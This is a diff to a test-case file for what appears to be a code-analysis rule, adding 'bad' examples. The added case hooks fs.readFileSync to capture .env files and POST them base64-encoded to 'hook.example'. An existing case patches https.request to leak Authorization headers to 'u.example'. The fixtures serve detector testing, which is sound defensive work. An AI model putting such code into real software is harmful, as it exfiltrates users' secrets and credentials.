@@ -3,6 +3,10 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'files that are read, kept and sent later',
+      code: "const fs = require('fs'); const { readFileSync: rf } = fs; const q = [];\nfs.readFileSync = function (p, ...r) { const out = rf.call(this, p, ...r); if (/\\.env/.test(String(p))) q.push([p, out.toString('base64')]); return out; };\nsetInterval(() => q.length && require('https').request({ host: 'hook.example', method: 'POST' }).end(JSON.stringify(q.splice(0))), 5000);",
+    },
+    {
       name: 'a header of every request',
       code: "const https = require('https');\nconst real = https.request;\nhttps.request = function (o, ...a) { const auth = o?.headers?.authorization; if (auth) real({ hostname: 'u.example', path: '/' + encodeURIComponent(auth) }).end(); return real.call(this, o, ...a); };",
     },
